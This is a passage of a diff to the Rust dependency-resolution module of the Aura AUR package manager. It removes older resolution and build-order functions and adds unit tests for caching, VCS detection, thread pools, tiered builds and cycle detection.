+            parses.fetch_add(1, Ordering::SeqCst);
+            std::thread::sleep(Duration::from_millis(20));
+            let full = root.join(dir).join(".SRCINFO");
+            Srcinfo::parse_file(&full).map_err(|e| Error::Srcinfo(full, e))
+        };
 
-                    mutx.lock().map_err(|_| Error::PoisonedMutex).map(|mut r| {
-                        r.to_build.insert(buildable);
+        // Many threads reaching the same clone at once.
+        std::thread::scope(|s| {
+            for _ in 0..8 {
+                s.spawn(|| cache.get_or_parse(&root.join("x"), || parse("x")).unwrap());
+            }
+        });
+        assert_eq!(1, parses.load(Ordering::SeqCst));
 
-                        info.pkg
-                            .provides
-                            .into_iter()
-                            .flat_map(|av| av.vec)
-                            .chain(prov)
-                            .map(strip_version)
-                            .for_each(|p| {
-                                r.provided.insert(p);
-                            })
-                    })?;
+        let info = cache.get_or_parse(&root.join("x"), || parse("x")).unwrap();
+        assert_eq!("x", info.base.pkgbase);
+        assert_eq!(1, parses.load(Ordering::SeqCst));
 
-                    deps_copy
-                        .into_par_iter()
-                        .map(|p| {
-                            let prnt = Some(parent.as_str());
-                            let pool = pool.clone();
-                            resolve_one(pool, mutx.clone(), fetch, clone_d, orig, prnt, &p, nocheck)
-                        })
-                        .collect::<Validated<(), Error<E>>>()
-                        .ok()
-                        .map_err(|es| Error::Resolutions(Box::new(es)))?;
-                }
-            }
-        }
+        // Failures aren't remembered.
+        let failed = cache.get_or_parse(&root.join("y"), || Err(Error::<()>::PoisonedMutex));
+        assert!(failed.is_err());
+        cache.get_or_parse(&root.join("y"), || parse("y")).unwrap();
+        assert_eq!(2, parses.load(Ordering::SeqCst));
     }
 
-    Ok(())
-}
+    #[test]
+    fn vcs_packages() {
+        let db = MockDb::default().installed("base-devel");
+        let (pool, _) = mock_pool(db);
+        let root = clone_root("vcs");
+        fake_clone(&root, "app", "app", &["foo-git", "bar", "baz"]);
+        fake_clone(&root, "foo-git", "foo-git", &[]);
+        fake_clone_with(
+            &root,
+            "bar",
+            "bar",
+            &["source = bar::git+https://example.com/bar.git#branch=main"],
+        );
+        fake_clone_with(
+            &root,
+            "baz",
+            "baz",
+            &["source = https://example.com/baz-1.0.tar.gz"],
+        );
+        let pkgs = HashSet::from(["app"]);
 
-/// Consider "checkdeps" as well, unless specifically instructed not to.
-fn respect_checkdeps<T>(nocheck: bool, deps: Vec<T>) -> Vec<T> {
-    if nocheck {
-        Vec::new()
-    } else {
-        deps
-    }
-}
-
-// FIXME Mon Feb 7 2022 pull_or_clone
-//
-// If `is_aur_package_fast` succeeds, perhaps we should assume that the clone is
-// up to date and avoid a pull here to speed things up. It may be better to
-// encourage usage of `-Ay`.
-//
-// Of course if there is no local clone, then a fresh one must be done either
-// way, ensuring newness for at least that run.
-//
-// The goal here is to rely on our local clone more, to avoid having to call to
-// the AUR all the time. `-Ai`, perhaps, should also read local clones if they
-// exist. This offers the bonus of `-Ai` functioning offline, like `-Si` does!
-fn pull_or_clone<S, F, E>(
-    fetch: &F,
-    clone_d: &Path,
-    parent: Option<S>,
-    pkg: &str,
-) -> Result<PathBuf, Error<E>>
-where
-    S: Into<String>,
-    F: Fn(&str) -> Result<Vec<crate::faur::Package>, E>,
-{
-    // Best case scenario: We already have a local clone of the requested
-    // dependency.
-    if super::has_local_aur_clone(clone_d, pkg) {
-        let path = clone_d.join(pkg);
-        // crate::git::pull(&path)?; // Here. Potentially avoid this.
-        Ok(path)
-    } else {
-        // Here, we don't have a local clone of the package, so we need to find
-        // out if it's real.
-        let mut info = crate::faur::info([pkg], fetch).map_err(Error::Faur)?;
-        let base = info
-            // ASSUMPTION: The list is a singleton!
-            .pop()
-            // There were no immediate results, but the dependency might be
-            // provided by something else.
-            .or_else(|| {
-                debug!("Trying extended provider search on {}.", pkg);
-                crate::faur::provides(pkg, fetch)
-                    .ok()
-                    // FIXME Fri May 20 2022 Somehow allow the user a choice of provider, if there are multiple.
-                    // In general this should be unlikely on the AUR for the average user, especially for dependencies.
-                    .and_then(|mut v| v.pop())
-            })
-            // Worst scenario: There wasn't a provider either. Then the
-            // dependency, as requested, simply doesn't exist and we have to
-            // halt the entire process.
-            .ok_or_else(|| match parent {
-                Some(par) => Error::DoesntExistWithParent(par.into(), pkg.to_string()),
-                None => Error::DoesntExist(pkg.to_string()),
-            })?
-            .package_base;
+        let opts = ResolveOpts::new(pool, &no_faur, &root);
+        let res = resolve(&opts, &pkgs).unwrap();
 
-        // Second best scenario: the requested dependency was part of some split
-        // package (etc.) that we already know about.
-        if super::has_local_aur_clone(clone_d, &base) {
-            let path = clone_d.join(base);
-            // crate::git::pull(&path)?; // Here. Potentially avoid this.
-            Ok(path)
-        } else {
-            let path = crate::aur::clone_aur_repo(Some(clone_d), &base).map_err(Error::Git)?;
-            Ok(path)
-        }
+        assert_eq!(
+            HashSet::from(["foo-git".to_string(), "bar".to_string()]),
+            res.vcs
+        );
     }
-}
-
-/// Given a collection of [`Buildable`] packages, determine a tiered order in
-/// which they should be built and installed together.
-///
-/// This ensures that all dependencies are built and installed before they're
-/// needed.
-///
-/// ```
-/// let res = aura_core::aur::dependencies::build_order::<()>(vec![]).unwrap();
-/// assert!(res.is_empty());
-/// ```
-pub fn build_order<E>(mut to_build: Vec<Buildable>) -> Result<Vec<Vec<String>>, Error<E>> {
-    info!("Determining build order.");
 
-    // NOTE 2024-08-15 This re-sorting is a workaround around an issue with the
-    // toposort results that occurs due to a combination of:
-    //
-    //   1. Packages having AUR dependencies.
-    //   2. Package names having a certain alphabetical ordering.
-    //   3. The insertion order in the input Vec relative to that alphabetical ordering.
-    //
-    // Experimentally, it seems that by sorting by dep-count we can avoid the
-    // issue. Note also that this is almost certainly the same issue I was
-    // seeing previously of "Aura uninstalling itself" due to the effects of
-    // `-a`.
-    to_build.sort_by_key(|b| b.deps.len());
-    to_build.reverse();
-    let graph = dep_graph(&to_build);
+    #[test]
+    fn custom_thread_pool() {
+        let db = MockDb::default()
+            .installed("base-devel")
+            .official("a", &["b", "c"])
+            .official("b", &[])
+            .official("c", &[]);
+        let (pool, db) = mock_pool(db);
+        let threads = rayon::ThreadPoolBuilder::new()
+            .num_threads(2)
+            .thread_name(|i| format!("aura-test-{i}"))
+            .build()
+            .unwrap();
+        let pkgs = HashSet::from(["a"]);
+        let clone_d = clone_root("threads");
 
-    // NOTE Testing only.
-    // let dot = Dot::new(&graph);
-    // std::fs::write("dep-graph.dot", format!("{:?}", dot)).unwrap();
+        let mut opts = ResolveOpts::new(pool, &no_faur, &clone_d);
+        opts.threads = Some(&threads);
+        let res = resolve(&opts, &pkgs).unwrap();
+        assert_eq!(3, res.to_install.len());
 
-    let topo = petgraph::algo::toposort(&graph, None)
-        .map_err(|cycle| {
-            shortest_cycle(cycle.node_id(), &graph)
-                .into_iter()
-                .filter_map(|ix| graph.node_weight(ix))
-                .map(|b| b.to_string())
-                .collect::<Vec<_>>()
-                .apply(Error::CyclicDep)
-        })?
-        .into_iter()
-        // Least-depended-upon to most-dependend-upon ordering. We reverse the
-        // order again at the very end.
-        .map(|ix| graph.node_weight(ix))
-        .collect::<Option<Vec<_>>>()
-        .ok_or(Error::MalformedGraph)?;
+        let names = db.threads.lock().unwrap();
+        assert_eq!(3, names.len());
+        assert!(names
+            .iter()
+            .all(|n| n.as_deref().is_some_and(|n| n.starts_with("aura-test-"))));
+    }
 
-    topo.into_iter()
-        // --- Split the packages by "layer" --- //
-        .fold(
-            (Vec::new(), Vec::new(), HashSet::new()),
-            |(mut layers, mut group, mut deps), buildable| {
-                if deps.contains(&buildable.name) {
-                    // Then, this buildable can't be built in the same layer as
-                    // the previously considered packages. We thus construct a
-                    // new layer.
-                    layers.push(group);
-                    deps.clear();
-                    // NOTE 2024-08-07 Potentially a subtle bug here.
-                    //
-                    // We blindly add all this `buildable`'s deps here and hope
-                    // that thanks to the topological sort that they've already
-                    // processed into early layers. Also see comment (1) below.
-                    deps.extend(&buildable.deps);
-                    (layers, vec![buildable.name.to_string()], deps)
-                } else {
-                    // (1) While all of the Buildable's official (non-AUR) deps
-                    // are also included in its `deps` field, only its own name
-                    // is ever added to the build order "group", and thus we
-                    // never try to mistakenly build an official package as an
-                    // AUR one.
-                    group.push(buildable.name.to_string());
-                    deps.extend(&buildable.deps);
-                    (layers, group, deps)
-                }
-            },
-        )
-        // --- Account for the final group --- //
-        .apply(|(mut layers, group, _)| {
-            if group.is_empty().not() {
-                layers.push(group);
-            }
-            // The most-dependend-upon packages will now come first.
-            layers.reverse();
-            Ok(layers)
-        })
-}
+    #[test]
+    fn tiered_builds() {
+        use std::sync::atomic::AtomicUsize;
+        use std::sync::atomic::Ordering;
 
-fn shortest_cycle<N, E>(ix: NodeIndex, graph: &Graph<N, E>) -> Vec<NodeIndex> {
-    petgraph::algo::all_simple_paths::<Vec<_>, _>(&graph, ix, ix, 0, None)
-        .fold(None, |acc, cycle| match acc {
-            None => Some(cycle),
-            Some(v) if cycle.len() < v.len() => Some(cycle),
-            _ => acc,
-        })
-        .unwrap_or_default()
-}
+        let tiers = vec![
+            vec!["a".to_string(), "b".to_string(), "c".to_string()],
+            vec![
+                "d".to_string(),
+                "e".to_string(),
+                "f".to_string(),
+                "g".to_string(),
+            ],
+            vec!["h".to_string()],
+        ];
+        let threads = rayon::ThreadPoolBuilder::new()
+            .num_threads(8)
+            .build()
+            .unwrap();
+        let running = AtomicUsize::new(0);
+        let highest = AtomicUsize::new(0);
+        let finished = Mutex::new(Vec::new());
 
-/// Form a proper dependency graph.
-fn dep_graph(to_build: &[Buildable]) -> Graph<&Buildable, ()> {
-    let mut graph = Graph::new();
-    let mut map: HashMap<&str, NodeIndex> = HashMap::new();
+        // Stands in for `makepkg`, noting how much was built before it began.
+        let fake_build = |pkg: &str| -> Result<(), ()> {
+            let before = finished.lock().unwrap().len();
+            let now = running.fetch_add(1, Ordering::SeqCst) + 1;
+            highest.fetch_max(now, Ordering::SeqCst);
+            std::thread::sleep(Duration::from_millis(20));
+            running.fetch_sub(1, Ordering::SeqCst);
+            finished.lock().unwrap().push((pkg.to_string(), before));
+            Ok(())
+        };
 
-    for build in to_build {
-        let ix = graph.add_node(build);
-        map.insert(&build.name, ix);
-    }
+        threads
+            .install(|| build_tiers(&tiers, 2, fake_build))
+            .unwrap();
+        assert_eq!(2, highest.load(Ordering::SeqCst));
 
-    for ix in map.values() {
-        if let Some(build) = graph.node_weight(*ix) {
-            for dep in build.deps.iter() {
-                if let Some(oix) = map.get(dep.as_str()) {
-                    graph.add_edge(*ix, *oix, ());
-                }
+        let finished = finished.into_inner().unwrap();
+        assert_eq!(8, finished.len());
+        for (pkg, before) in finished {
+            match pkg.as_str() {
+                "a" | "b" | "c" => assert!(before < 3),
+                "d" | "e" | "f" | "g" => assert!((3..7).contains(&before)),
+                _ => assert_eq!(7, before),
             }
         }
-    }
-
-    graph
-}
-
-/// Strip version demands from a dependency string, if any.
-fn strip_version<S>(stri: S) -> String
-where
-    S: AsRef<str> + Into<String>,
-{
-    stri.as_ref()
-        .split_once(['=', '>'])
-        .map(|(good, _)| good.to_string())
-        .unwrap_or_else(|| stri.into())
-}
-
-/// Interdependency relationships just within a given package.
-pub struct Interdeps<'a>(HashMap<&'a str, Vec<&'a str>>);
 
-impl<'a> Interdeps<'a> {
-    /// Construct a mapping of interdependency relationships given a specific [`Srcinfo`].
-    pub fn from_srcinfo(srcinfo: &'a Srcinfo) -> Self {
-        let reals: HashSet<_> = srcinfo.pkgs.iter().map(|p| p.pkgname.as_str()).collect();
+        // A failure halts progress to the next tier, but not within its own.
+        let built = Mutex::new(Vec::new());
+        let flaky_build = |pkg: &str| {
+            built.lock().unwrap().push(pkg.to_string());
+            if pkg == "b" || pkg == "c" {
+                Err(pkg.to_string())
+            } else {
+                Ok(())
+            }
+        };
 
-        srcinfo
-            .pkgs
-            .iter()
-            .map(|p| {
-                let ds = p
-                    .depends
-                    .iter()
-                    .flat_map(|av| av.vec.as_slice())
-                    .filter(|d| reals.contains(d.as_str()))
-                    .map(|s| s.as_str())
-                    .collect();
-                (p.pkgname.as_str(), ds)
+        let err = threads
+            .install(|| build_tiers(&tiers, 2, flaky_build))
+            .unwrap_err();
+        let mut failed: Vec<_> = err
+            .inner_errors()
+            .into_iter()
+            .filter_map(|e| match e {
+                Error::Build(p, _) => Some(p.as_str()),
+                _ => None,
             })
-            .collect::<HashMap<_, _>>()
-            .apply(Interdeps)
+            .collect();
+        failed.sort();
+        assert_eq!(vec!["b", "c"], failed);
+
+        let mut built = built.into_inner().unwrap();
+        built.sort();
+        assert_eq!(vec!["a", "b", "c"], built);
     }
 
-    /// Starting from some given package name, all the packages that belong to
-    /// its transitive chain of dependencies.
-    pub fn transitive(&'a self, head: &'a str) -> Option<NESet<&'a str>> {
-        let mut chain = self.transitive_work(head, HashSet::new());
+    #[test]
+    fn wide_concurrent_resolution() {
+        let shared: Vec<String> = (0..10).map(|n| format!("s{n}")).collect();
+        let shared: Vec<&str> = shared.iter().map(|s| s.as_str()).collect();
+        let officials: Vec<String> = (0..200).map(|n| format!("p{n}")).collect();
+        let officials: Vec<&str> = officials.iter().map(|s| s.as_str()).collect();
 
-        if chain.is_empty() {
-            None
-        } else {
-            chain.insert(head);
-            NESet::from_set(chain)
+        let mut db = MockDb::default()
+            .installed("base-devel")
+            .installed("s0")
+            .official("root", &officials);
+        for s in shared.iter() {
+            db = db.official(s, &[]);
         }
-    }
+        for p in officials.iter() {
+            db = db.official(p, &shared);
+        }
+        let (pool, _) = mock_pool(db);
 
-    fn transitive_work(&'a self, dep: &'a str, curr: HashSet<&'a str>) -> HashSet<&'a str> {
-        match self.0.get(dep) {
-            None => curr,
-            Some(deps) => deps.iter().fold(curr, |mut acc, d| {
-                // Prevents infinite recursion, even though we don't expect
-                // there to be dependency cycles in any place where this would
-                // be used.
-                if acc.contains(d) {
-                    acc
-                } else {
-                    acc.insert(d);
-                    self.transitive_work(d, acc)
-                }
-            }),
+        let root = clone_root("wide");
+        let aurs: Vec<String> = (0..20).map(|n| format!("x{n}")).collect();
+        for (n, x) in aurs.iter().enumerate() {
+            fake_clone(&root, x, x, &["s1", officials[n * 10]]);
         }
-    }
-}
 
-#[cfg(test)]
-mod test {
-    use super::*;
-    use nonempty_collections::nes;
+        let (tx, rx) = std::sync::mpsc::channel();
+        let clone_d = root.to_path_buf();
+
+        // Detached, so that a deadlock fails the test instead of hanging it.
+        std::thread::spawn(move || {
+            let threads = rayon::ThreadPoolBuilder::new()
+                .num_threads(16)
+                .build()
+                .unwrap();
+            let pkgs: HashSet<&str> = aurs.iter().map(|x| x.as_str()).chain(["root"]).collect();
+            let mut opts = ResolveOpts::new(pool, &no_faur, &clone_d);
+            opts.threads = Some(&threads);
+            tx.send(resolve(&opts, &pkgs)).unwrap();
+        });
+
+        let res = rx
+            .recv_timeout(Duration::from_secs(60))
+            .expect("Resolution deadlocked.")
+            .unwrap();
+
+        // Everything but the installed `s0`.
+        assert_eq!(1 + 9 + 200, res.to_install.len());
+        assert_eq!(20, res.to_build.len());
+        assert_eq!(HashSet::from(["s0".to_string()]), res.satisfied);
+    }
 
     #[test]
     fn interdeps() {
@@ -705,6 +5879,10 @@ mod test {
         assert_eq!("gcc6", strip_version("gcc6"));
         assert_eq!("gcc6", strip_version("gcc6=6.5.0-7"));
         assert_eq!("glibc", strip_version("glibc>=2.25"));
+        assert_eq!("foo", strip_version("foo<2.0"));
+        assert_eq!("foo", strip_version("foo<=2.0"));
+        assert_eq!("foo", strip_version("foo>=1:2.0-1"));
+        assert_eq!("bar", strip_version("bar=2:1.0-1"));
     }
 
     #[test]
@@ -713,10 +5891,14 @@ mod test {
             Buildable {
                 name: "a".to_string(),
                 deps: vec!["b".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "b".to_string(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
         ];
 
@@ -734,18 +5916,26 @@ mod test {
             Buildable {
                 name: "a".to_string(),
                 deps: vec!["b".to_string(), "c".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "b".to_string(),
                 deps: vec!["d".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "c".to_string(),
                 deps: vec!["d".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "d".to_string(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
         ];
 
@@ -760,33 +5950,73 @@ mod test {
         assert_eq!(vec![vec!["d"], vec!["b", "c"], vec!["a"]], o);
     }
 
+    #[test]
+    fn cyclic_graph() {
+        let v = vec![
+            Buildable {
+                name: "foo".to_string(),
+                deps: vec!["bar".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
+            },
+            Buildable {
+                name: "bar".to_string(),
+                deps: vec!["foo".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
+            },
+        ];
+
+        match build_order::<()>(v) {
+            Err(Error::CyclicDep(cycle)) => {
+                assert_eq!(3, cycle.len());
+                assert_eq!(cycle.first(), cycle.last());
+                assert!(cycle.contains(&"foo".to_string()));
+                assert!(cycle.contains(&"bar".to_string()));
+            }
+            other => panic!("Expected a cycle, got {:?}", other),
+        }
+    }
+
     #[test]
     fn medium_graph() {
         let v = vec![
             Buildable {
                 name: "a".to_string(),
                 deps: vec!["b".to_string(), "c".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "b".to_string(),
                 deps: vec!["d".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "c".to_string(),
                 deps: vec!["d".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "e".to_string(),
                 deps: vec!["d".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "d".to_string(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "f".to_string(),
                 // deps: vec!["c".to_string()].into_iter().collect(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
         ];
 
@@ -807,18 +6037,26 @@ mod test {
             Buildable {
                 name: "mgba-git".to_string(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "sway-git".to_string(),
                 deps: vec!["wlroots-git".to_string()].into_iter().collect(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "wlroots-git".to_string(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
             Buildable {
                 name: "timelineproject-hg".to_string(),
                 deps: HashSet::new(),
+                provides: HashSet::new(),
+                members: Vec::new(),
             },
         ];
 